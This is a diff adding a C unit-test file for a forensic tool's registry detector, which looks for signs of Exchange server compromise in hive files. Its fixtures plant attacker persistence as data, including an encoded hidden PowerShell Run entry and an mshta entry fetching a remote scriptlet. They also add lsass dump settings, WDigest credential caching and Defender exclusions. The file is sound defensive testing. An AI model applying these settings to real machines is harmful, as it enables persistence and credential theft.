@@ -1,0 +1,538 @@
+/* Registry hives end to end (lib/detectors/registry.c): hives from the test writer laid out as a
+ * KAPE collection keeps them (Windows/System32/config, a profile's NTUSER.DAT), swept through
+ * the public API; exact findings for each attacker change, exact state notes (the build, the
+ * install path, updates, EOMT, UM disabled), none on benign hives; dirty and damaged hives,
+ * archive members, and the caps. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "core/limits.h"
+#include "core/timeparse.h"
+#include "exsweep/exsweep.h"
+#include "fixfiles.h"
+#include "hivewriter.h"
+#include "memscan.h"
+#include "mkarchive.h"
+#include "scan/scan_int.h"
+#include "state/observe.h"
+
+#define CFG "C/Windows/System32/config/"
+#define SETUP "Microsoft\\ExchangeServer\\v15\\Setup"
+#define UNINST "Microsoft\\Windows\\CurrentVersion\\Uninstall\\"
+#define RUN "Microsoft\\Windows\\CurrentVersion\\Run"
+#define EXCL "Microsoft\\Windows Defender\\Exclusions\\"
+#define CV "Microsoft\\Windows NT\\CurrentVersion"
+#define T1 1615000000000LL /* 2021-03-06T03:06:40Z */
+#define T2 1615100000000LL /* 2021-03-07T06:53:20Z */
+
+static char *const root = t_dir;
+
+static void put_hive(const char *rel, t_hw *w, const t_hw_opts *o)
+{
+    size_t n;
+    unsigned char *b = t_hw_build(w, o, &n);
+    assert_non_null(b);
+    assert_int_equal(t_fix_write(root, rel, b, n), 0);
+    free(b);
+    t_hw_free(w);
+}
+
+static exs_scan *sweep(void (*tune)(exs_scan *))
+{
+    exs_scan *s;
+    exs_scan_opts d = {1, 0, 0, NULL, 0};
+    assert_int_equal(exs_scan_create(&s, &d), EXS_OK);
+    if (tune)
+        tune(s);
+    assert_int_equal(exs_scan_add_root(s, root), EXS_OK);
+    assert_int_equal(exs_scan_run(s), EXS_OK);
+    return s;
+}
+
+static int cmp_line(const void *a, const void *b)
+{
+    return strcmp(*(char *const *)a, *(char *const *)b);
+}
+
+/* Lines, sorted, joined (each with '\n'); frees them. */
+static char *joined(char **lines, size_t n)
+{
+    qsort(lines, n, sizeof *lines, cmp_line);
+    size_t len = 1;
+    for (size_t i = 0; i < n; i++)
+        len += strlen(lines[i]) + 1;
+    char *out = malloc(len);
+    out[0] = 0;
+    for (size_t i = 0; i < n; i++) {
+        strcat(out, lines[i]);
+        strcat(out, "\n");
+        free(lines[i]);
+    }
+    free(lines);
+    return out;
+}
+
+static const char *fact(const exs_finding *f, const char *key)
+{
+    for (size_t i = 0; i < f->nfacts; i++)
+        if (strcmp(f->facts[i].key, key) == 0)
+            return f->facts[i].value;
+    return "-";
+}
+
+/* "RULE|verdict|severity|key|value|data|time|trait" per finding. */
+static char *findings(const exs_scan *s)
+{
+    size_t n;
+    const exs_finding *f = exs_results_findings(exs_scan_results(s), &n);
+    char **lines = calloc(n + 1, sizeof *lines);
+    for (size_t i = 0; i < n; i++) {
+        char t[32];
+        xs_time_format(f[i].time_ms, t);
+        size_t cap = 4096;
+        lines[i] = malloc(cap);
+        snprintf(lines[i], cap, "%s|%s|%s|%s|%s|%s|%s|%s", f[i].rule->id,
+                 exs_verdict_name(f[i].verdict), exs_severity_name(f[i].severity),
+                 fact(&f[i], "reg_key"), fact(&f[i], "reg_value"), fact(&f[i], "reg_data"), t,
+                 fact(&f[i], "reg_trait"));
+    }
+    return joined(lines, n);
+}
+
+/* "build|source|build|first|detail|file" and "kind|family|what|time|file" per observation. */
+static char *state(const exs_scan *s)
+{
+    size_t nb = 0, nn = 0;
+    const xs_sbuild *b = s->state ? xs_state_builds(s->state, &nb) : NULL;
+    const xs_snote *o = s->state ? xs_state_notes(s->state, &nn) : NULL;
+    char **lines = calloc(nb + nn + 1, sizeof *lines);
+    for (size_t i = 0; i < nb; i++) {
+        char t[32], bt[XS_BUILD_TEXT];
+        xs_time_format(b[i].o.first_ms, t);
+        lines[i] = malloc(1024);
+        snprintf(lines[i], 1024, "build|%s|%s|%s|%s|%s", xs_bsrc_name(b[i].o.source),
+                 xs_build_text(&b[i].o.build, bt), t, b[i].o.detail ? b[i].o.detail : "-",
+                 b[i].file);
+    }
+    for (size_t i = 0; i < nn; i++) {
+        char t[32];
+        xs_time_format(o[i].o.time_ms, t);
+        lines[nb + i] = malloc(1024);
+        snprintf(lines[nb + i], 1024, "%s|%d|%s|%s|%s", xs_nkind_name(o[i].o.kind),
+                 o[i].o.family, o[i].o.what, t, o[i].file);
+    }
+    return joined(lines, nb + nn);
+}
+
+static void expect_text(char *got, const char *want, const char *what)
+{
+    if (strcmp(got, want) != 0)
+        fail_msg("%s differ.\n--- got:\n%s--- want:\n%s", what, got, want);
+    free(got);
+}
+
+static bool warned(const exs_scan *s, const char *kind, const char *text)
+{
+    size_t n;
+    const exs_warning *w = exs_results_warnings(exs_scan_results(s), &n);
+    for (size_t i = 0; i < n; i++)
+        if (strcmp(w[i].kind, kind) == 0 && strstr(w[i].message, text))
+            return true;
+    return false;
+}
+
+/* ---------------------------------------------------------------- hives */
+
+static t_hw *software(void)
+{
+    t_hw *w = t_hw_new("CMI-CreateHive{199DAFC2-6F16-4946-BF90-5A3FC3A60902}");
+    t_hw_key(w, CV, 0);
+    t_hw_sz(w, CV, "ProductName", "Windows Server 2016 Standard");
+    t_hw_key(w, SETUP, T1);
+    t_hw_dword(w, SETUP, "MsiProductMajor", 15);
+    t_hw_dword(w, SETUP, "MsiProductMinor", 1);
+    t_hw_dword(w, SETUP, "MsiBuildMajor", 2176);
+    t_hw_dword(w, SETUP, "MsiBuildMinor", 2);
+    t_hw_sz(w, SETUP, "MsiInstallPath", "D:\\Exchange\\V15\\");
+    t_hw_sz(w, UNINST "{4934D1EA-BE46-48B1-8847-F1AF20E892C1}{6AC2C2A9-52E2-4C61-B5A1-6F1F7C7B4B29}",
+            "DisplayName",
+            "Security Update for Exchange Server 2016 Cumulative Update 19 (KB5000871)");
+    t_hw_sz(w, UNINST "{4934D1EA-BE46-48B1-8847-F1AF20E892C1}{6AC2C2A9-52E2-4C61-B5A1-6F1F7C7B4B29}",
+            "InstallDate", "20210303");
+    t_hw_key(w, "Wow6432Node\\" UNINST "KB5001779", T2);
+    t_hw_sz(w, "Wow6432Node\\" UNINST "KB5001779", "DisplayName",
+            "Update for Exchange Server 2016 CU19");
+    t_hw_sz(w, UNINST "7-Zip", "DisplayName", "7-Zip 19.00 (x64)");
+    t_hw_sz(w, RUN, "VMware User Process",
+            "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr");
+    t_hw_expand_sz(w, RUN, "SecurityHealth", "%windir%\\system32\\SecurityHealthSystray.exe");
+    /* Microsoft's recommended Exchange exclusions, old and new */
+    t_hw_dword(w, EXCL "Paths", "%ExchangeInstallPath%ClientAccess\\OAB", 0);
+    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15\\Logging", 0);
+    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15\\TransportRoles\\Data\\Queue", 0);
+    t_hw_dword(w, EXCL "Paths", "C:\\Windows\\Cluster", 0);
+    t_hw_dword(w, EXCL "Paths", "C:\\inetpub\\temp\\IIS Temporary Compressed Files", 0);
+    t_hw_dword(w, EXCL "Paths",
+               "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files", 0);
+    t_hw_dword(w, EXCL "Paths", "C:\\Windows\\System32\\Inetsrv", 0);
+    t_hw_dword(w, EXCL "Extensions", ".edb", 0);
+    t_hw_dword(w, EXCL "Extensions", "log", 0);
+    t_hw_dword(w, EXCL "Processes", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", 0);
+    t_hw_dword(w, EXCL "Processes", "D:\\Exchange\\V15\\Bin\\EdgeTransport.exe", 0);
+    t_hw_dword(w, CV "\\Image File Execution Options\\notepad.exe", "GlobalFlag", 0x200);
+    return w;
+}
+
+static t_hw *system_hive(unsigned current)
+{
+    t_hw *w = t_hw_new("ROOT");
+    t_hw_dword(w, "Select", "Current", current);
+    t_hw_dword(w, "Select", "Default", 1);
+    for (unsigned cs = 1; cs <= 2; cs++) {
+        char p[128];
+        snprintf(p, sizeof p, "ControlSet%03u\\Services\\W32Time", cs);
+        t_hw_expand_sz(w, p, "ImagePath", "%SystemRoot%\\system32\\svchost.exe -k LocalService");
+        snprintf(p, sizeof p, "ControlSet%03u\\Services\\WinDefend", cs);
+        t_hw_expand_sz(w, p, "ImagePath",
+                       "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2102.4-0\\"
+                       "MsMpEng.exe\"");
+        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeUM", cs);
+        t_hw_key(w, p, T2);
+        t_hw_dword(w, p, "Start", 4);
+        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeUMCR", cs);
+        t_hw_key(w, p, T2);
+        t_hw_dword(w, p, "Start", 4);
+        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeIS", cs);
+        t_hw_sz(w, p, "ImagePath", "\"D:\\Exchange\\V15\\Bin\\Microsoft.Exchange.Store.Service.exe\"");
+        t_hw_dword(w, p, "Start", 2);
+        snprintf(p, sizeof p, "ControlSet%03u\\Control\\SecurityProviders\\WDigest", cs);
+        t_hw_dword(w, p, "UseLogonCredential", 0);
+    }
+    return w;
+}
+
+static t_hw *ntuser(void)
+{
+    t_hw *w = t_hw_new("CsiTool-CreateHive-{00000000-0000-0000-0000-000000000000}");
+    t_hw_key(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer", 0);
+    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive",
+            "\"C:\\Users\\admin\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background");
+    return w;
+}
+
+#define BENIGN_STATE                                                                               \
+    "build|registry|15.1.2176.2|2021-03-06T03:06:40.000Z|" SETUP "\\MsiProductMajor 15, "         \
+    "MsiProductMinor 1, MsiBuildMajor 2176, MsiBuildMinor 2|C/Windows/System32/config/SOFTWARE\n" \
+    "install|-1|D:\\Exchange\\V15\\|2021-03-06T03:06:40.000Z|C/Windows/System32/config/SOFTWARE\n" \
+    "service|0|MSExchangeUM disabled (Start=4)|2021-03-07T06:53:20.000Z|"                         \
+    "C/Windows/System32/config/SYSTEM\n"                                                           \
+    "service|0|MSExchangeUMCR disabled (Start=4)|2021-03-07T06:53:20.000Z|"                       \
+    "C/Windows/System32/config/SYSTEM\n"                                                           \
+    "update|-1|KB5000871 Security Update for Exchange Server 2016 Cumulative Update 19 "          \
+    "(KB5000871)|2021-03-03T00:00:00.000Z|C/Windows/System32/config/SOFTWARE\n"                   \
+    "update|-1|KB5001779 Update for Exchange Server 2016 CU19|2021-03-07T06:53:20.000Z|"           \
+    "C/Windows/System32/config/SOFTWARE\n"
+
+static void test_benign(void **st)
+{
+    (void)st;
+    put_hive(CFG "SOFTWARE", software(), NULL);
+    put_hive(CFG "SYSTEM", system_hive(1), NULL);
+    put_hive("C/Users/admin/NTUSER.DAT", ntuser(), NULL);
+    exs_scan *s = sweep(NULL);
+    expect_text(findings(s), "", "findings");
+    expect_text(state(s), BENIGN_STATE, "state");
+    assert_int_equal(t_warns(s, "unreadable"), 0);
+    assert_int_equal(t_warns(s, "limit"), 0);
+    exs_scan_destroy(s);
+}
+
+static void test_software_changes(void **st)
+{
+    (void)st;
+    t_hw *w = software();
+    t_hw_key(w, RUN, T2);
+    t_hw_sz(w, RUN, "svchost", "C:\\ProgramData\\svchost.exe");
+    t_hw_sz(w, RUN "Once", "upd",
+            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
+    t_hw_sz(w, "Wow6432Node\\" RUN, "x",
+            "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.exe");
+    t_hw_key(w, EXCL "Paths", T1);
+    t_hw_dword(w, EXCL "Paths", "C:\\inetpub\\wwwroot\\aspnet_client", 0);
+    t_hw_dword(w, EXCL "Paths", "%ExchangeInstallPath%FrontEnd\\HttpProxy", 0);
+    t_hw_dword(w, EXCL "Paths", "C:\\", 0);
+    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15", 0);
+    t_hw_key(w, "Policies\\" EXCL "Extensions", T2);
+    t_hw_dword(w, "Policies\\" EXCL "Extensions", ".aspx", 0);
+    t_hw_dword(w, CV "\\Image File Execution Options\\lsass.exe", "GlobalFlag", 0x200);
+    t_hw_key(w, CV "\\SilentProcessExit\\lsass.exe", T1);
+    t_hw_dword(w, CV "\\SilentProcessExit\\lsass.exe", "ReportingMode", 2);
+    t_hw_sz(w, CV "\\SilentProcessExit\\lsass.exe", "LocalDumpFolder", "c:\\temp");
+    t_hw_dword(w, CV "\\SilentProcessExit\\lsass.exe", "DumpType", 2);
+    t_hw_key(w, "MSERTBootstrap\\PatchState", T2);
+    t_hw_sz(w, "MSERTBootstrap\\PatchState", "Timestamp", "03/07/2021 06:53:20");
+    t_hw_sz(w, "MSERTBootstrap\\PatchState", "IISVersion", "1 IIS version 10.0");
+    t_hw_sz(w, "MSERTBootstrap\\PatchState", "MSERT", "0 MSERT detected threats");
+    put_hive(CFG "SOFTWARE", w, NULL);
+    exs_scan *s = sweep(NULL);
+    expect_text(
+        findings(s),
+        "EXS-REG-DEFENDER-EXCLUSION|exploitation|high|" EXCL "Paths|%ExchangeInstallPath%FrontEnd\\HttpProxy|-|"
+        "2021-03-06T03:06:40.000Z|Paths exclusion of the Exchange web folders\n"
+        "EXS-REG-DEFENDER-EXCLUSION|exploitation|high|" EXCL "Paths|C:\\inetpub\\wwwroot\\aspnet_client|-|"
+        "2021-03-06T03:06:40.000Z|Paths exclusion of the IIS or Exchange web folders\n"
+        "EXS-REG-DEFENDER-EXCLUSION|exploitation|high|Policies\\" EXCL "Extensions|.aspx|-|"
+        "2021-03-07T06:53:20.000Z|Extensions exclusion of server scripts by extension\n"
+        "EXS-REG-DEFENDER-EXCLUSION|suspicious|high|" EXCL "Paths|C:\\|-|"
+        "2021-03-06T03:06:40.000Z|Paths exclusion of a whole drive\n"
+        "EXS-REG-DEFENDER-EXCLUSION|suspicious|high|" EXCL "Paths|D:\\Exchange\\V15|-|"
+        "2021-03-06T03:06:40.000Z|Paths exclusion of the whole Exchange install (web folders "
+        "included)\n"
+        "EXS-REG-LSASS-SILENT-EXIT|exploitation|critical|" CV "\\SilentProcessExit\\lsass.exe|"
+        "LocalDumpFolder|GlobalFlag=0x200 ReportingMode=2 LocalDumpFolder=c:\\temp DumpType=2|"
+        "2021-03-06T03:06:40.000Z|-\n"
+        "EXS-REG-RUN|exploitation|high|" RUN "Once|upd|powershell.exe -nop -w hidden -enc "
+        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA|2021-03-01T00:00:00.000Z|powershell runs a "
+        "script or command (encoded or downloading)\n"
+        "EXS-REG-RUN|exploitation|high|Wow6432Node\\" RUN "|x|C:\\inetpub\\wwwroot\\aspnet_client\\"
+        "system_web\\x.exe|2021-03-01T00:00:00.000Z|runs from a web folder (inetpub)\n"
+        "EXS-REG-RUN|suspicious|high|" RUN "|svchost|C:\\ProgramData\\svchost.exe|"
+        "2021-03-07T06:53:20.000Z|runs from ProgramData\n",
+        "findings");
+    expect_text(state(s),
+                "build|registry|15.1.2176.2|2021-03-06T03:06:40.000Z|" SETUP "\\MsiProductMajor 15, "
+                "MsiProductMinor 1, MsiBuildMajor 2176, MsiBuildMinor 2|" CFG "SOFTWARE\n"
+                "eomt|0|IISVersion: 1 IIS version 10.0|2021-03-07T06:53:20.000Z|" CFG "SOFTWARE\n"
+                "eomt|0|MSERT: 0 MSERT detected threats|2021-03-07T06:53:20.000Z|" CFG "SOFTWARE\n"
+                "eomt|0|Timestamp: 03/07/2021 06:53:20|2021-03-07T06:53:20.000Z|" CFG "SOFTWARE\n"
+                "install|-1|D:\\Exchange\\V15\\|2021-03-06T03:06:40.000Z|" CFG "SOFTWARE\n"
+                "update|-1|KB5000871 Security Update for Exchange Server 2016 Cumulative Update 19 "
+                "(KB5000871)|2021-03-03T00:00:00.000Z|" CFG "SOFTWARE\n"
+                "update|-1|KB5001779 Update for Exchange Server 2016 CU19|2021-03-07T06:53:20.000Z|"
+                CFG "SOFTWARE\n",
+                "state");
+    exs_scan_destroy(s);
+}
+
+static void test_system_changes(void **st)
+{
+    (void)st;
+    t_hw *w = system_hive(2); /* the changes in the set in use, ControlSet002 */
+    t_hw_key(w, "ControlSet002\\Services\\msupdate", T1);
+    t_hw_sz(w, "ControlSet002\\Services\\msupdate", "ImagePath", "C:\\Users\\Public\\msupdate.exe");
+    t_hw_key(w, "ControlSet002\\Services\\updsvc", T2);
+    t_hw_expand_sz(w, "ControlSet002\\Services\\updsvc", "ImagePath",
+                   "%COMSPEC% /c C:\\Windows\\Temp\\x.bat");
+    t_hw_sz(w, "ControlSet002\\Services\\websvc", "ImagePath",
+            "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\svc.exe\"");
+    t_hw_key(w, "ControlSet002\\Control\\SecurityProviders\\WDigest", T2);
+    t_hw_dword(w, "ControlSet002\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
+    /* the set not in use is not read */
+    t_hw_sz(w, "ControlSet001\\Services\\old", "ImagePath", "C:\\ProgramData\\old.exe");
+    put_hive(CFG "SYSTEM", w, NULL);
+    exs_scan *s = sweep(NULL);
+    expect_text(findings(s),
+                "EXS-REG-DEARCRY-SERVICE|exploitation|critical|ControlSet002\\Services\\msupdate|"
+                "ImagePath|C:\\Users\\Public\\msupdate.exe|2021-03-06T03:06:40.000Z|runs from "
+                "Users\\Public\n"
+                "EXS-REG-SERVICE|exploitation|high|ControlSet002\\Services\\websvc|ImagePath|"
+                "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\"
+                "auth\\svc.exe\"|2021-03-01T00:00:00.000Z|runs from an Exchange web folder "
+                "(FrontEnd\\HttpProxy)\n"
+                "EXS-REG-SERVICE|suspicious|high|ControlSet002\\Services\\updsvc|ImagePath|"
+                "%COMSPEC% /c C:\\Windows\\Temp\\x.bat|2021-03-07T06:53:20.000Z|runs from "
+                "Windows\\Temp\n"
+                "EXS-REG-WDIGEST|suspicious|high|ControlSet002\\Control\\SecurityProviders\\WDigest|"
+                "UseLogonCredential|1|2021-03-07T06:53:20.000Z|-\n",
+                "findings");
+    exs_scan_destroy(s);
+}
+
+static void test_user_run(void **st)
+{
+    (void)st;
+    t_hw *w = ntuser();
+    t_hw_key(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", T1);
+    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "helper",
+            "mshta.exe javascript:a=GetObject(\"script:http://198.51.100.7/x.sct\").Exec();close()");
+    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "dll",
+            "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL");
+    put_hive("C/Users/admin/NTUSER.DAT", w, NULL);
+    exs_scan *s = sweep(NULL);
+    expect_text(findings(s),
+                "EXS-REG-RUN|exploitation|high|Software\\Microsoft\\Windows\\CurrentVersion\\Run|"
+                "helper|mshta.exe javascript:a=GetObject(\"script:http://198.51.100.7/x.sct\")."
+                "Exec();close()|2021-03-06T03:06:40.000Z|mshta runs a script or command (encoded "
+                "or downloading)\n",
+                "findings");
+    exs_scan_destroy(s);
+}
+
+/* A hive inside a triage archive is read from the archive's stream. */
+static void test_archive_member(void **st)
+{
+    (void)st;
+    t_hw *w = system_hive(1);
+    t_hw_key(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", T2);
+    t_hw_dword(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
+    size_t n;
+    unsigned char *b = t_hw_build(w, NULL, &n);
+    t_hw_free(w);
+    char path[512];
+    snprintf(path, sizeof path, "%s/triage.zip", root);
+    const char *names[] = {"C/Windows/System32/config/SYSTEM", NULL};
+    const char *datas[] = {(const char *)b};
+    assert_int_equal(t_write_archive(path, "zip", names, datas, &n), 0);
+    free(b);
+    exs_scan *s = sweep(NULL);
+    char *got = findings(s);
+    assert_non_null(strstr(got, "EXS-REG-WDIGEST|suspicious|high|ControlSet001\\"));
+    free(got);
+    got = state(s);
+    assert_non_null(strstr(got, "service|0|MSExchangeUM disabled (Start=4)|"
+                                "2021-03-07T06:53:20.000Z|triage.zip!/C/Windows/System32/config/SYSTEM\n"));
+    free(got);
+    exs_scan_destroy(s);
+}
+
+static void test_dirty(void **st)
+{
+    (void)st;
+    t_hw_opts o = {true, 0, "\\??\\C:\\Windows\\System32\\config\\SYSTEM", 0};
+    put_hive(CFG "SYSTEM", system_hive(1), &o);
+    exs_scan *s = sweep(NULL);
+    assert_true(warned(s, "unreadable", "dirty hive: its transaction logs were not applied; "
+                                        "recent changes may be missing"));
+    assert_int_equal(t_warns(s, "unreadable"), 1);
+    char *got = state(s); /* read all the same */
+    assert_non_null(strstr(got, "MSExchangeUMCR disabled"));
+    free(got);
+    exs_scan_destroy(s);
+}
+
+static void test_damaged(void **st)
+{
+    (void)st;
+    t_hw *w = software();
+    size_t n;
+    unsigned char *b = t_hw_build(w, NULL, &n);
+    t_hw_free(w);
+    memset(b + 4096 + 32, 0xA5, n - 4096 - 32); /* every cell */
+    assert_int_equal(t_fix_write(root, CFG "SOFTWARE", b, n), 0);
+    /* a transaction log's copy of a base block is not a hive to read */
+    b[0x1C] = 2;
+    assert_int_equal(t_fix_write(root, CFG "SOFTWARE.LOG1", b, 4096), 0);
+    free(b);
+    exs_scan *s = sweep(NULL);
+    assert_true(warned(s, "unreadable", "registry hive not readable: "));
+    assert_int_equal(t_warns(s, "unreadable"), 1);
+    expect_text(findings(s), "", "findings");
+    exs_scan_destroy(s);
+}
+
+/* ---------------------------------------------------------------- caps */
+
+static void lower_subkeys(exs_scan *s)
+{
+    s->hive_limits.max_subkeys = 2;
+}
+
+static void lower_values(exs_scan *s)
+{
+    s->hive_limits.max_values = 1;
+}
+
+static void lower_keys(exs_scan *s)
+{
+    s->hive_limits.max_keys = 4;
+}
+
+static void lower_depth(exs_scan *s)
+{
+    s->hive_limits.max_depth = 2;
+}
+
+static void lower_data(exs_scan *s)
+{
+    s->hive_limits.max_data = 8;
+}
+
+static void lower_bytes(exs_scan *s)
+{
+    s->hive_limits.max_bytes = 4096;
+}
+
+static void test_caps(void **st)
+{
+    (void)st;
+    static void (*const tunes[])(exs_scan *) = {lower_subkeys, lower_values, lower_keys,
+                                                lower_depth, lower_data};
+    static const char *const says[] = {
+        "(caps of the hive reader): 3 subkeys past the per-key cap",
+        "values past the per-key cap", "keys past the per-hive cap", "keys too deep",
+        "values whose data is too large to read"};
+    for (size_t i = 0; i < sizeof tunes / sizeof tunes[0]; i++) {
+        put_hive(CFG "SYSTEM", system_hive(1), NULL);
+        put_hive(CFG "SOFTWARE", software(), NULL);
+        exs_scan *s = sweep(tunes[i]);
+        size_t n;
+        const exs_warning *wv = exs_results_warnings(exs_scan_results(s), &n);
+        bool seen = false;
+        for (size_t j = 0; j < n; j++)
+            if (strcmp(wv[j].kind, "limit") == 0 && strstr(wv[j].message, "read in part"))
+                seen = strstr(wv[j].message, says[i]) != NULL;
+        if (!seen) {
+            for (size_t j = 0; j < n; j++)
+                printf("warning %s: %s\n", wv[j].kind, wv[j].message);
+            fail_msg("cap %zu: no warning saying \"%s\"", i, says[i]);
+        }
+        exs_scan_destroy(s);
+    }
+    /* bytes: a larger hive is not read at all */
+    put_hive(CFG "SYSTEM", system_hive(1), NULL);
+    exs_scan *s = sweep(lower_bytes);
+    assert_true(warned(s, "limit", "past the 4096-byte cap: not read"));
+    expect_text(state(s), "", "state");
+    exs_scan_destroy(s);
+}
+
+/* The real byte cap, on a sparse file past it: refused by its size, never read. */
+static void test_bytes_cap(void **st)
+{
+    (void)st;
+    t_hw *w = system_hive(1);
+    size_t n;
+    unsigned char *b = t_hw_build(w, NULL, &n);
+    t_hw_free(w);
+    assert_int_equal(t_fix_write(root, CFG "SYSTEM", b, n), 0);
+    free(b);
+    char path[512];
+    snprintf(path, sizeof path, "%s/" CFG "SYSTEM", root);
+    assert_int_equal(truncate(path, (off_t)XS_HIVE_MAX_BYTES + 4096), 0);
+    exs_scan *s = sweep(NULL);
+    char msg[128];
+    snprintf(msg, sizeof msg, "past the %llu-byte cap: not read",
+             (unsigned long long)XS_HIVE_MAX_BYTES);
+    assert_true(warned(s, "limit", msg));
+    expect_text(state(s), "", "state");
+    exs_scan_destroy(s);
+}
+
+int main(void)
+{
+#define T(f) cmocka_unit_test_setup_teardown(f, t_dir_setup, t_dir_teardown)
+    const struct CMUnitTest tests[] = {
+        T(test_benign),      T(test_software_changes), T(test_system_changes),
+        T(test_user_run),    T(test_archive_member),   T(test_dirty),
+        T(test_damaged),     T(test_caps),             T(test_bytes_cap),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
